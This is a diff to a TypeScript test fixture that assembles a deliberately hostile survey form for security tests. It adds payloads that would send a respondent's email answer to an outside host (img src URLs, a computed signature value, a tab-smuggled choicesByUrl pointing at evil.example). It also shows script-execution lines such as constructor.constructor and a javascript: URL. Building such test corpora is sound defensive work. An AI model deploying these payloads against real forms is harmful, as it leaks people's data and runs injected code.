@@ -1,5 +1,5 @@
 /**
- * A form, its theme and its replies that try to run, to call home, to lead away or to change the look of the page, in 69 ways; a
+ * A form, its theme and its replies that try to run, to call home, to lead away or to change the look of the page, in 76 ways; a
  * script that runs writes its number into `pwned`. For tests only.
  */
 
@@ -106,13 +106,25 @@ const expressions: readonly Readonly<Record<string, unknown>>[] = [
   { visibleIf: `iif(1=1, propertyValue('e0', 'constructor'), 1) = 1` },
 ];
 
+/** An answer as part of an address: whoever types would tell it to another site. */
+const telling: readonly (readonly [name: string, element: Readonly<Record<string, unknown>>])[] = [
+  ['a picture at an answer', { type: 'html', html: `<img src="${far}?{Email}">` }],
+  ['a picture whose attribute is an answer', { type: 'html', html: `<img {src}="${far}?{Email}">` }],
+  ['a picture in pieces', { type: 'html', html: `<img s{More}rc=${far}?{Email}>` }],
+  ['a picture that is reckoned', { type: 'html', html: '{picture}' }],
+  ['a signature that is reckoned', { type: 'signaturepad', setValueExpression: `'${far}?' + {Email}` }],
+  ['choices by a tab', { type: 'dropdown', choicesByUrl: { url: '/\t/evil.example/away' } }],
+];
+
 /** How many ways there are to do harm. */
 export const hostileWays: readonly string[] = [
   ...hostileTexts.map(({ name }) => name),
   ...expressions.map((one) => JSON.stringify(one)),
+  ...telling.map(([name]) => name),
   'navigateToUrl',
   'navigateToUrlOnCondition',
   'completedHtml',
+  'completedHtml with an answer',
   'logo',
   'backgroundImage',
   'imageLink',
@@ -132,8 +144,11 @@ export function hostileLayout(): string {
     backgroundImage: far,
     navigateToUrl: 'javascript:top.pwned=1',
     navigateToUrlOnCondition: [{ expression: '1=1', url: far }],
-    completedHtml: `<h4>Thank you, {First Name}</h4>${texts.join('')}`,
-    calculatedValues: [{ name: 'c', expression: `constructor.constructor('${call}')()` }],
+    completedHtml: `<h4>Thank you, {First Name}</h4><img src="${far}?{Email}">${texts.join('')}`,
+    calculatedValues: [
+      { name: 'c', expression: `constructor.constructor('${call}')()` },
+      { name: 'picture', expression: `'<img src=${far}?' + {Email} + '>'` },
+    ],
     pages: [
       {
         name: first,
@@ -153,6 +168,8 @@ export function hostileLayout(): string {
           ...texts.map((one, at) => text(`t${at}`, { title: one, description: one })),
           ...texts.map((one, at) => ({ type: 'html', name: `h${at}`, html: `<p>Markup ${at}.</p>${one}` })),
           ...expressions.map((more, at) => text(`e${at}`, more)),
+          text('src', { visible: false, defaultValue: 'src' }),
+          ...telling.map(([name, more]) => ({ name, ...more })),
         ],
       },
       { name: 'last', title: 'Last page', elements: [text('More', { title: 'More' })] },
